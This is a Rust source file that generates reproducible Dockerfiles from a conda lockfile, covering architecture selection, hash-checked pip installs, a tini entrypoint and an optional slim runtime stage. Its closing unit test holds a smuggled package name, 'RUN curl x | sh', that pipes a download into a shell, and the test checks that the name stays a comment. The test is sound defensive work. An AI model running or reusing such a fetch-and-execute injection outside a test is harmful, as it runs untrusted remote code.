//! The Dockerfile.
//!
//! Layout, in layer order (lock-derived layers first, app code last, so code edits reuse the
//! env layers):
//!
//! 1. `FROM` the digest-pinned base.
//! 2. The `envlock/` files, then one `RUN` that picks the locked platform for `TARGETARCH`
//!    (amd64 → linux-64, arm64 → linux-aarch64, ppc64le → linux-ppc64le; an architecture that is
//!    not locked stops the build naming it) and creates the env from the `@EXPLICIT` file alone
//!    (no solve; conda checks every hash). conda's package cache is a BuildKit cache mount
//!    (`/opt/conda/pkgs`), so downloads are reused by later builds and never land in the layer;
//!    `--copy` makes conda copy files out of it (a hard link into the mount would dangle in the
//!    image); the env's `conda-meta/history` (the build's time) is emptied, and its
//!    `conda-meta/created_at` (conda ≥ 25) says `SOURCE_DATE_EPOCH`. pip's cache is a
//!    cache mount too (`/root/.cache/pip`) in every `pip install` step, sdists aside.
//!    `SOURCE_DATE_EPOCH` (the lock's cutoff, else 0) and `PYTHONHASHSEED=0` are build
//!    arguments, so pyc files are checked-hash and marshalled the same way, and `useradd` dates
//!    the user from the lock: two builds of one lock give the same layers.
//! 3. `SHELL` switched to `conda run … -n env bash -o pipefail -c`, so later `RUN` lines run in the
//!    activated env: the hashed pip install, `pip check`, and the user's `--run` steps.
//!    Sdists with a locked build set come after the wheels: the build set into
//!    `/tmp/envlock-build` (`--target`), the sdists with `--no-build-isolation` against it, the
//!    directory removed, then `pip check`; sdists without one build isolated, named in a comment.
//! 4. Runtime: the env baked into `ENV` (for `docker exec` and probes), a numeric non-root user,
//!    tini (from the lock; `resolve` adds it unless the inputs name it) as PID 1 running a script
//!    that activates the env and `exec`s the command (the script alone for a `--no-init` lock),
//!    `EXPOSE`, `CMD` in JSON form, OCI labels with the lock's content hashes.
//!
//! `conda run` is not the entrypoint by default because it does not forward SIGTERM (conda issue
//! #10351), so `docker stop` would kill the app without a clean shutdown; `--entrypoint
//! conda-run` restores it for those who want it.
//!
//! `--runtime slim` (conda flavor): the stages 1–3 become the `builder`, and a last stage `FROM`
//! a digest-pinned slim Debian adds the user, copies `/opt/conda/envs/env` and `/opt/envlock`
//! from it, and has the runtime of 4 (same `ENV`, tini, labels, `CMD`); no conda. The entrypoint
//! script activates the env without conda, so it runs there unchanged.
//!
//! The `venv` flavor is for pip-only projects: an official `python:X.Y-slim` base, a venv, the
//! same hashed pip install, no conda.

use std::fmt::Write;

use anyhow::Result;
use rattler_conda_lock::{LockFile, Manager};

pub use crate::lock::image::{Entrypoint, Flavor, Preset, Runtime};
use crate::{
    lock::meta::{INIT_PACKAGE, InitRecord},
    net::oci::ImageRef,
    util::error::Failure,
};

/// Where the env lives in the conda flavor.
pub const CONDA_PREFIX: &str = "/opt/conda/envs/env";
const VENV: &str = "/opt/venv";
/// The numeric user the app runs as (non-root, above the distributions' system ranges).
const UID: u32 = 10001;

/// Everything besides the lock that decides the Dockerfile.
pub struct Options {
    /// How the environment gets into the image.
    pub flavor: Flavor,
    /// The base image, pinned to a digest.
    pub base: ImageRef,
    /// What the image runs unless `cmd` says otherwise.
    pub preset: Preset,
    /// Overrides the preset's command.
    pub cmd: Option<Vec<String>>,
    /// Overrides the preset's ports.
    pub ports: Option<Vec<u16>>,
    /// Shell commands run in the env after the install, in order.
    pub run: Vec<String>,
    /// How the image starts its command.
    pub entrypoint: Entrypoint,
    /// The directory of the generated files, relative to the build context.
    pub dir: String,
    /// The lockfile's name, for headers.
    pub lockfile: String,
    /// The local projects, installed from source after the locked packages.
    pub local_projects: Vec<LocalInstall>,
    /// What `resolve` did about the image's init (the lock's record).
    pub init: Option<InitRecord>,
    /// The default of the build's `SOURCE_DATE_EPOCH`: from the lock (its cutoff, else 0),
    /// never the time of rendering.
    pub source_date_epoch: i64,
    /// The slim runtime's pinned base: the stages above become the `builder`, and a last stage
    /// on this base gets the env alone (conda flavor). `None`: one stage.
    pub runtime: Option<ImageRef>,
}

/// The BuildKit cache mount of conda's package cache: downloads survive the layer, and the
/// layer never holds them. `sharing=locked`: two builds at once take turns.
const CONDA_PKGS_MOUNT: &str = "--mount=type=cache,target=/opt/conda/pkgs,sharing=locked";
/// The BuildKit cache mount of pip's cache (root's `~/.cache/pip`), in place of
/// `--no-cache-dir`.
const PIP_CACHE_MOUNT: &str = "--mount=type=cache,target=/root/.cache/pip,sharing=locked";

/// A local project as the image installs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LocalInstall {
    /// Its name (a valid project name, from the lock's record).
    pub name: String,
    /// Its directory in the build context: `.` or `/`-separated plain names.
    pub path: String,
    /// Installed with `pip install -e` (`--editable` and named with `-e`).
    pub editable: bool,
    /// Built from the lock's build set (`pip-build-<platform>.txt`) without build isolation;
    /// else pip's build isolation fetches its build backend unpinned.
    pub pinned_build: bool,
}

/// hadolint reads the `conda run` SHELL as a script whose shebang is `conda` (SC2239, SC1008 in
/// older versions) and cannot see its `pipefail` (DL4006); both are wrong by construction.
const IGNORE_CONDA_RUN: &str = "# The SHELL runs bash -o pipefail inside the env; hadolint cannot see through `conda run`.\n\
     # hadolint ignore=DL4006,SC1008,SC2239\n";

/// Docker architecture → conda platform, for the platforms a Dockerfile can build.
const ARCHES: [(&str, &str, &str); 3] = [
    ("amd64", "x86_64", "linux-64"),
    ("arm64", "aarch64", "linux-aarch64"),
    ("ppc64le", "ppc64le", "linux-ppc64le"),
];

/// The conda platform of a Docker architecture (`amd64` → `linux-64`), for the architectures a
/// Dockerfile can build.
pub fn platform_of_arch(arch: &str) -> Option<&'static str> {
    ARCHES
        .iter()
        .find(|(docker, uname, _)| *docker == arch || *uname == arch)
        .map(|(_, _, p)| *p)
}

/// The Docker architecture of a conda platform (`linux-aarch64` → `arm64`).
pub fn arch_of_platform(platform: &str) -> Option<&'static str> {
    ARCHES
        .iter()
        .find(|(_, _, p)| *p == platform)
        .map(|(docker, _, _)| *docker)
}

/// The lock's platforms an image can be built for, in [`ARCHES`] order.
pub fn linux_platforms(lock: &LockFile) -> Vec<&'static str> {
    ARCHES
        .iter()
        .map(|(_, _, p)| *p)
        .filter(|p| lock.metadata.platforms.iter().any(|l| l == p))
        .collect()
}

impl Preset {
    fn cmd(self) -> Vec<String> {
        let words: &[&str] = match self {
            Preset::Python => &["python", "app.py"],
            Preset::Flask => &["gunicorn", "--bind", "0.0.0.0:8000", "app:app"],
            Preset::Jupyter => &[
                "jupyter",
                "lab",
                "--ip=0.0.0.0",
                "--port=8888",
                "--no-browser",
            ],
        };
        words.iter().map(|w| w.to_string()).collect()
    }

    fn ports(self) -> Vec<u16> {
        match self {
            Preset::Python => vec![],
            Preset::Flask => vec![8000],
            Preset::Jupyter => vec![8888],
        }
    }

    /// The package the preset's command comes from.
    fn needs(self) -> Option<&'static str> {
        match self {
            Preset::Python => None,
            Preset::Flask => Some("gunicorn"),
            Preset::Jupyter => Some("jupyterlab"),
        }
    }
}

/// A JSON string: how Dockerfile exec forms and LABEL values are quoted safely.
fn quote(s: &str) -> String {
    serde_json::to_string(s).expect("strings serialize")
}

fn locked(lock: &LockFile, platform: &str, name: &str) -> bool {
    lock.package
        .iter()
        .any(|p| p.platform == platform && p.name == name)
}

/// Renders the Dockerfile for `lock`.
pub fn render(lock: &LockFile, o: &Options) -> Result<String> {
    let platforms = linux_platforms(lock);
    if platforms.is_empty() {
        return Err(Failure::new(format!(
            "{} locks no Linux platform, so there is nothing to build an image from",
            o.lockfile
        ))
        .hint("lock one with `envlock resolve -p linux-64 -p linux-aarch64`")
        .into());
    }
    let Some(digest) = &o.base.digest else {
        anyhow::bail!("internal error: the base image is not pinned");
    };
    if o.run.iter().any(|step| step.trim().is_empty()) {
        return Err(Failure::new("a --run step is empty").into());
    }
    let dir_ok = !o.dir.is_empty()
        && !o.dir.starts_with('/')
        && o.dir.split('/').all(|part| {
            !part.is_empty()
                && part != "."
                && part != ".."
                && part
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
        });
    if !dir_ok {
        return Err(Failure::new(format!(
            "--dir {:?} is not a plain relative directory",
            o.dir
        ))
        .hint("use a name such as `envlock` or `docker/envlock` (letters, digits, `.`, `_`, `-`)")
        .into());
    }
    if o.flavor == Flavor::Venv {
        for p in &platforms {
            if let Some(extra) = conda_beyond_python(lock, p, o.init.as_ref()) {
                return Err(Failure::new(format!(
                    "the venv flavor installs pip packages only, but {} locks the conda package {extra} for {p}",
                    o.lockfile
                ))
                .hint("use the default conda flavor, or move that package to the pip requirements")
                .into());
            }
        }
    }
    let no_init = InitRecord::opted_out(o.init.as_ref());
    if o.flavor == Flavor::Conda && o.entrypoint == Entrypoint::Tini && !no_init {
        for p in &platforms {
            if !locked(lock, p, INIT_PACKAGE) {
                let why = if o
                    .init
                    .as_ref()
                    .is_some_and(|i| i.unavailable.iter().any(|u| u == p))
                {
                    " (the resolve that made the lock could not add it)"
                } else {
                    ""
                };
                return Err(Failure::new(format!(
                    "tini is not locked for {p}{why}, and the image runs it as PID 1 to reap zombies and forward signals"
                ))
                .hint("add a channel that has `tini` and run `envlock resolve` (it adds tini for the image's init); or `envlock resolve --no-init` for an image whose PID 1 is the entrypoint script (no init); or render with `--entrypoint conda-run`")
                .into());
            }
        }
    }

    // Sdists with a locked build set build without isolation from it; others as before.
    let built = platforms
        .iter()
        .any(|p| !super::built_sdists(lock, p).is_empty());
    let unpinned: Vec<String> = platforms
        .iter()
        .flat_map(|p| {
            super::unpinned_sdists(lock, p)
                .into_iter()
                .map(move |s| format!("{s} ({p})"))
        })
        .collect();
    let cmd = o.cmd.clone().unwrap_or_else(|| o.preset.cmd());
    let ports = o.ports.clone().unwrap_or_else(|| o.preset.ports());
    let dir = o.dir.trim_end_matches('/');
    let mut f = String::new();
    f.push_str("# syntax=docker/dockerfile:1\n");
    f.push_str(&super::header("#", &o.lockfile, lock, None));
    if o.runtime.is_some() {
        if o.flavor != Flavor::Conda || o.entrypoint != Entrypoint::Tini {
            return Err(Failure::new(
                "the slim runtime is for the conda flavor with the tini entrypoint",
            )
            .into());
        }
        f.push_str(
            "# The builder: creates the env and runs the build steps, with conda.
",
        );
        let _ = writeln!(f, "FROM {} AS builder", o.base);
    } else {
        let _ = writeln!(f, "FROM {}", o.base);
    }
    f.push('\n');

    let _ = writeln!(
        f,
        "# The locked files. BuildKit sets TARGETARCH; other builders fall back to `uname -m`."
    );
    f.push_str("ARG TARGETARCH\n");
    f.push_str(
        "# Reproducible layers: the pyc files pip and conda write hold hashes of their sources, not\n\
         # the build's time (SOURCE_DATE_EPOCH, from the lock), nor the order of a random hash seed.\n",
    );
    let _ = writeln!(f, "ARG SOURCE_DATE_EPOCH={}", o.source_date_epoch);
    f.push_str("ARG PYTHONHASHSEED=0\n");
    let _ = writeln!(f, "COPY {dir}/ /opt/envlock/");
    let mut cases = String::new();
    for (docker, uname, platform) in ARCHES {
        if platforms.contains(&platform) {
            let _ = writeln!(cases, "      {docker}|{uname}) platform={platform} ;; \\");
        }
    }
    let cache = match o.flavor {
        Flavor::Conda => CONDA_PKGS_MOUNT,
        Flavor::Venv => PIP_CACHE_MOUNT,
    };
    let select = format!(
        "RUN {cache} \\\n    arch=\"${{TARGETARCH:-$(uname -m)}}\" \\\n \
         && case \"$arch\" in \\\n{cases}      *) echo \"envlock: the lock has no platform for architecture $arch (locked: {}); run envlock resolve -p for it\" >&2; exit 1 ;; \\\n    esac \\\n",
        platforms.join(" ")
    );
    if o.flavor == Flavor::Venv {
        unpinned_comment(&mut f, &unpinned);
    }
    f.push_str(&select);
    // Local projects built from the build set find it at one path in their later RUN.
    let local_build = o.local_projects.iter().any(|p| p.pinned_build);
    let copy_local_build = if local_build {
        " && cp \"/opt/envlock/pip-build-$platform.txt\" /opt/envlock/pip-build-local.txt \\\n"
    } else {
        ""
    };
    let user = match o.flavor {
        // The slim runtime adds the user in its own stage.
        Flavor::Conda if o.runtime.is_some() => {
            " && chmod 0755 /opt/envlock/entrypoint.sh\n".to_string()
        }
        Flavor::Conda => format!(
            " && useradd --create-home --uid {UID} --user-group app \\\n \
             && chmod 0755 /opt/envlock/entrypoint.sh\n"
        ),
        Flavor::Venv => format!(" && useradd --create-home --uid {UID} --user-group app\n"),
    };
    match o.flavor {
        Flavor::Conda => {
            let copy_sdists = if built {
                " && if [ -f \"/opt/envlock/pip-sdist-$platform.txt\" ]; then \\\n      \
                 cp \"/opt/envlock/pip-build-$platform.txt\" /opt/envlock/pip-build.txt \\\n      \
                 && cp \"/opt/envlock/pip-sdist-$platform.txt\" /opt/envlock/pip-sdist.txt; \\\n    \
                 fi \\\n"
            } else {
                ""
            };
            let _ = write!(
                f,
                " && conda create --name env --file \"/opt/envlock/conda-$platform.txt\" --yes --copy \\\n \
                 && : > {CONDA_PREFIX}/conda-meta/history \\\n \
                 && {{ [ ! -f {CONDA_PREFIX}/conda-meta/created_at ] \\\n      \
                 || printf '%s' \"${{SOURCE_DATE_EPOCH:-0}}\" > {CONDA_PREFIX}/conda-meta/created_at; }} \\\n \
                 && cp \"/opt/envlock/pip-$platform.txt\" /opt/envlock/pip.txt \\\n{copy_sdists}{copy_local_build}{user}\n"
            );
            // Before the SHELL: hadolint's ignore comment must stay right above its RUN.
            unpinned_comment(&mut f, &unpinned);
            f.push_str("# Every later RUN runs inside the env.\n");
            f.push_str("SHELL [\"conda\", \"run\", \"--no-capture-output\", \"--name\", \"env\", \"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\n");
            f.push_str(IGNORE_CONDA_RUN);
            if built {
                let _ = write!(
                    f,
                    "RUN {PIP_CACHE_MOUNT} \\\n    \
                     if grep -q '^[^#]' /opt/envlock/pip.txt; then \\\n      \
                     python -m pip install --no-deps --require-hashes -r /opt/envlock/pip.txt; \\\n    \
                     fi \\\n",
                );
                f.push_str(&sdist_steps(
                    "python",
                    "/opt/envlock/pip-build.txt",
                    "/opt/envlock/pip-sdist.txt",
                ));
                f.push_str(" && python -m pip check\n");
            } else {
                let _ = write!(
                    f,
                    "RUN {PIP_CACHE_MOUNT} \\\n    \
                     if grep -q '^[^#]' /opt/envlock/pip.txt; then \\\n      \
                     python -m pip install --no-deps --require-hashes -r /opt/envlock/pip.txt \\\n      \
                     && python -m pip check; \\\n    fi\n",
                );
            }
        }
        Flavor::Venv => {
            let sdists = if built {
                sdist_steps(
                    &format!("{VENV}/bin/python"),
                    "\"/opt/envlock/pip-build-$platform.txt\"",
                    "\"/opt/envlock/pip-sdist-$platform.txt\"",
                )
            } else {
                String::new()
            };
            let _ = write!(
                f,
                " && python -m venv {VENV} \\\n \
                 && {VENV}/bin/python -m pip install --no-deps --require-hashes -r \"/opt/envlock/pip-$platform.txt\" \\\n\
                 {sdists} \
                 && {VENV}/bin/python -m pip check \\\n{copy_local_build}{user}\n"
            );
        }
    }
    f.push('\n');

    f.push_str(
        "# The env, as `conda activate` would set it, for the app, `docker exec` and probes.\n",
    );
    let env = match o.flavor {
        Flavor::Conda => format!(
            "ENV PATH={CONDA_PREFIX}/bin:$PATH \\\n    CONDA_PREFIX={CONDA_PREFIX} \\\n    CONDA_DEFAULT_ENV=env \\\n    PYTHONUNBUFFERED=1 \\\n    PYTHONDONTWRITEBYTECODE=1\n"
        ),
        Flavor::Venv => format!(
            "ENV PATH={VENV}/bin:$PATH \\\n    VIRTUAL_ENV={VENV} \\\n    PYTHONUNBUFFERED=1 \\\n    PYTHONDONTWRITEBYTECODE=1\n"
        ),
    };
    f.push_str(&env);
    if !o.local_projects.is_empty() {
        let python = match o.flavor {
            Flavor::Conda => "python".to_string(),
            Flavor::Venv => format!("{VENV}/bin/python"),
        };
        f.push_str(
            "\n# The local projects, from source, after the locked packages: a source change \
             reuses the layers above.\n",
        );
        if o.local_projects.iter().all(|p| p.pinned_build) {
            f.push_str(
                "# Their dependencies are installed above; their build backends ([build-system] \
                 requires) from the lock's build set, hash-checked, removed after the build.\n",
            );
        } else {
            f.push_str(
                "# Their dependencies are installed above; the build backends ([build-system] \
                 requires) of those built with pip's build isolation are fetched unpinned.\n",
            );
        }
        for project in &o.local_projects {
            let name = super::comment_text(&project.name);
            let source = if project.path == "." {
                "./".to_string()
            } else {
                format!("{}/", project.path)
            };
            let _ = writeln!(f, "COPY {source} /opt/envlock/src/{name}/");
            let editable = if project.editable { "-e " } else { "" };
            if project.pinned_build {
                let build = "/opt/envlock/pip-build-local.txt";
                let _ = writeln!(
                    f,
                    "RUN {PIP_CACHE_MOUNT} if grep -q '^[^#]' {build}; then \\\n      \
                     {python} -m pip install --no-deps --require-hashes --target /tmp/envlock-build -r {build}; \\\n    \
                     fi \\\n \
                     && PYTHONPATH=/tmp/envlock-build PATH=\"/tmp/envlock-build/bin:$PATH\" \\\n    \
                     {python} -m pip install --no-deps --no-build-isolation {editable}/opt/envlock/src/{name} \\\n \
                     && rm -rf /tmp/envlock-build"
                );
            } else {
                let _ = writeln!(
                    f,
                    "RUN {PIP_CACHE_MOUNT} {python} -m pip install --no-deps {editable}/opt/envlock/src/{name}"
                );
            }
        }
        f.push('\n');
    }
    // User steps come after the env is in ENV, and are written in exec form with the command
    // as one JSON string, so nothing in them (a newline, a trailing backslash, a heredoc) can
    // change how the Dockerfile parses.
    for step in &o.run {
        let mut argv: Vec<String> = match o.flavor {
            Flavor::Conda => ["conda", "run", "--no-capture-output", "--name", "env"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            Flavor::Venv => vec![],
        };
        argv.extend(["/bin/bash", "-o", "pipefail", "-c"].map(String::from));
        argv.push(step.clone());
        let quoted: Vec<String> = argv.iter().map(|w| quote(w)).collect();
        f.push_str("# This step runs under bash -o pipefail, which hadolint does not see in exec form.\n# hadolint ignore=DL4006\n");
        let _ = writeln!(f, "RUN [{}]", quoted.join(", "));
    }
    let mut labels = Vec::new();
    if let Some(runtime) = &o.runtime {
        let Some(runtime_digest) = &runtime.digest else {
            anyhow::bail!("internal error: the runtime base is not pinned");
        };
        f.push_str(
            "\n# The runtime: the env alone on a slim base, without conda (the entrypoint script\n\
             # activates the env itself). Nothing else of the builder's is here: what a --run step\n\
             # wrote outside the env and /opt/envlock stays behind.\n",
        );
        let _ = writeln!(f, "FROM {runtime}");
        let _ = writeln!(f, "ARG SOURCE_DATE_EPOCH={}", o.source_date_epoch);
        let _ = writeln!(f, "RUN useradd --create-home --uid {UID} --user-group app");
        let _ = writeln!(f, "COPY --from=builder {CONDA_PREFIX} {CONDA_PREFIX}");
        f.push_str("COPY --from=builder /opt/envlock /opt/envlock\n");
        f.push_str(
            "# The env, as `conda activate` would set it, for the app, `docker exec` and probes.\n",
        );
        f.push_str(&env);
        labels.push((
            "org.opencontainers.image.base.name".to_string(),
            runtime.name.clone(),
        ));
        labels.push((
            "org.opencontainers.image.base.digest".to_string(),
            runtime_digest.clone(),
        ));
        labels.push(("dev.envlock.builder.name".to_string(), o.base.name.clone()));
        labels.push(("dev.envlock.builder.digest".to_string(), digest.clone()));
    } else {
        labels.push((
            "org.opencontainers.image.base.name".to_string(),
            o.base.name.clone(),
        ));
        labels.push((
            "org.opencontainers.image.base.digest".to_string(),
            digest.clone(),
        ));
    }
    for (platform, hash) in &lock.metadata.content_hash {
        labels.push((
            format!("dev.envlock.lock.content-hash.{platform}"),
            hash.clone(),
        ));
    }
    let labels: Vec<String> = labels
        .iter()
        .map(|(k, v)| format!("{k}={}", quote(v)))
        .collect();
    let _ = writeln!(f, "LABEL {}", labels.join(" \\\n      "));
    f.push('\n');

    f.push_str("# The app, last, so that code changes reuse the layers above.\n");
    f.push_str("WORKDIR /app\n");
    let _ = writeln!(f, "COPY --chown={UID}:{UID} . /app");
    let _ = writeln!(f, "USER {UID}");
    for port in &ports {
        let _ = writeln!(f, "EXPOSE {port}");
    }
    let entrypoint: Option<Vec<String>> = match (o.flavor, o.entrypoint) {
        (Flavor::Conda, Entrypoint::Tini) if no_init => {
            f.push_str(
                "# No init (the lock was made with `envlock resolve --no-init`): the script is PID 1, which\n\
                 # reaps no zombies and gets no default signal handlers, so the app must handle SIGTERM.\n",
            );
            Some(vec!["/opt/envlock/entrypoint.sh".into()])
        }
        (Flavor::Conda, Entrypoint::Tini) => Some(vec![
            format!("{CONDA_PREFIX}/bin/tini"),
            "--".into(),
            "/opt/envlock/entrypoint.sh".into(),
        ]),
        (Flavor::Conda, Entrypoint::CondaRun) => Some(
            ["conda", "run", "--no-capture-output", "--name", "env"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
        ),
        // A venv needs no activation; dumb-init, when locked, forwards signals as tini does.
        (Flavor::Venv, _) if platforms.iter().all(|p| locked(lock, p, "dumb-init")) => {
            Some(vec![format!("{VENV}/bin/dumb-init"), "--".into()])
        }
        (Flavor::Venv, _) => None,
    };
    let exec_form = |words: &[String]| {
        let quoted: Vec<String> = words.iter().map(|w| quote(w)).collect();
        format!("[{}]", quoted.join(", "))
    };
    if let Some(e) = entrypoint {
        let _ = writeln!(f, "ENTRYPOINT {}", exec_form(&e));
    }
    let _ = writeln!(f, "CMD {}", exec_form(&cmd));
    Ok(f)
}

/// The shell lines (continuing a `RUN`) that build the sdists reproducibly: the build set
/// into a directory of its own (so build tools do not stay in the env), then the sdists
/// without build isolation against it, hash-checked; then the build set is removed. The sdists
/// keep `--no-cache-dir`: pip's cache would keep the wheel it built and give it to a later build
/// whose locked build set changed.
fn sdist_steps(python: &str, build: &str, sdists: &str) -> String {
    format!(
        " && if [ -f {sdists} ]; then \\\n      \
         if grep -q '^[^#]' {build}; then \\\n        \
         {python} -m pip install --no-deps --require-hashes --target /tmp/envlock-build -r {build}; \\\n      \
         fi \\\n      \
         && PYTHONPATH=/tmp/envlock-build PATH=\"/tmp/envlock-build/bin:$PATH\" \\\n         \
         {python} -m pip install --no-deps --require-hashes --no-cache-dir --no-build-isolation -r {sdists} \\\n      \
         && rm -rf /tmp/envlock-build; \\\n    \
         fi \\\n"
    )
}

/// A comment naming the sdists whose build requirements are not pinned.
fn unpinned_comment(f: &mut String, unpinned: &[String]) {
    if unpinned.is_empty() {
        return;
    }
    f.push_str(
        "# The build requirements of these sdists are not pinned: pip fetches them from the index\n\
         # when it builds them (run `envlock resolve` with indexes that have their wheels):\n",
    );
    for s in unpinned {
        // Names and versions come from the lock, which is untrusted.
        let _ = writeln!(f, "#   {}", super::comment_text(s));
    }
}

/// A conda package of `platform` that is neither python, pip, nor something they depend on:
/// what a venv image (whose base brings its own python) would silently lose. The tini envlock
/// added for the conda image's init does not count (a venv image does not run it).
fn conda_beyond_python(
    lock: &LockFile,
    platform: &str,
    init: Option<&InitRecord>,
) -> Option<String> {
    let added_init = InitRecord::added_to(init, platform);
    let conda: std::collections::BTreeMap<&str, &rattler_conda_lock::Package> = lock
        .package
        .iter()
        .filter(|p| p.manager == Manager::Conda && p.platform == platform)
        .map(|p| (p.name.as_str(), p))
        .collect();
    let mut seen = std::collections::BTreeSet::new();
    let mut stack: Vec<&str> = vec!["python", "pip"];
    while let Some(name) = stack.pop() {
        if let Some(p) = conda.get(name)
            && seen.insert(name)
        {
            stack.extend(p.dependencies.keys().map(String::as_str));
        }
    }
    if added_init {
        // tini and what it alone depends on.
        let mut stack = vec![INIT_PACKAGE];
        while let Some(name) = stack.pop() {
            if let Some(p) = conda.get(name)
                && !seen.contains(name)
            {
                seen.insert(name);
                stack.extend(p.dependencies.keys().map(String::as_str));
            }
        }
    }
    conda
        .keys()
        .find(|n| !seen.contains(*n))
        .map(|n| n.to_string())
}

/// Refuses a base whose architectures (`arches`, known from its registry or its name) the lock
/// has no platform for: the build's architecture selection would stop it, later and less
/// clearly.
pub fn refuse_unlocked_arch(
    lock: &LockFile,
    lockfile: &str,
    base: &ImageRef,
    arches: &[String],
) -> Result<()> {
    let platforms = linux_platforms(lock);
    if arches.is_empty()
        || arches
            .iter()
            .any(|a| platform_of_arch(a).is_some_and(|p| platforms.contains(&p)))
    {
        return Ok(());
    }
    let shown: Vec<String> = arches.iter().map(|a| format!("linux/{a}")).collect();
    let locked: Vec<String> = platforms
        .iter()
        .map(|p| format!("{p} (linux/{})", arch_of_platform(p).unwrap_or("?")))
        .collect();
    // `-p` replaces the recorded platforms, so the command names the locked ones too.
    let current: String = lock
        .metadata
        .platforms
        .iter()
        .map(|p| format!("-p {p} "))
        .collect();
    let lock_them: Vec<String> = arches
        .iter()
        .filter_map(|a| platform_of_arch(a))
        .map(|p| format!("`envlock resolve {current}-p {p}`"))
        .collect();
    let lock_them = if lock_them.is_empty() {
        String::new()
    } else {
        format!(
            "lock the base's platform too ({}), or ",
            lock_them.join(" or ")
        )
    };
    let for_locked: Vec<String> = platforms
        .iter()
        .filter_map(|p| arch_of_platform(p))
        .map(|a| format!("linux/{a}"))
        .collect();
    Err(Failure::new(format!(
        "the base {base} is an image for {}, but {lockfile} locks no platform for it (it locks {})",
        shown.join(", "),
        locked.join(", ")
    ))
    .hint(format!(
        "{lock_them}pass a --base for {}",
        for_locked.join(" or ")
    ))
    .into())
}

/// What the preset runs, so the caller can warn when the lock lacks it.
pub fn missing_preset_package(
    lock: &LockFile,
    preset: Preset,
    custom_cmd: bool,
) -> Option<&'static str> {
    if custom_cmd {
        return None;
    }
    let needed = preset.needs()?;
    (!lock.package.iter().any(|p| p.name == needed)).then_some(needed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_from_the_lock_cannot_add_an_instruction_through_the_unpinned_comment() {
        let mut f = String::new();
        unpinned_comment(&mut f, &["evil 1\nRUN curl x | sh (linux-64)".to_string()]);
        assert!(
            f.lines().all(|l| l.starts_with('#')),
            "every line stays a comment: {f}"
        );
        assert!(f.contains("evil 1\\nRUN curl x | sh (linux-64)"), "{f}");
    }
}
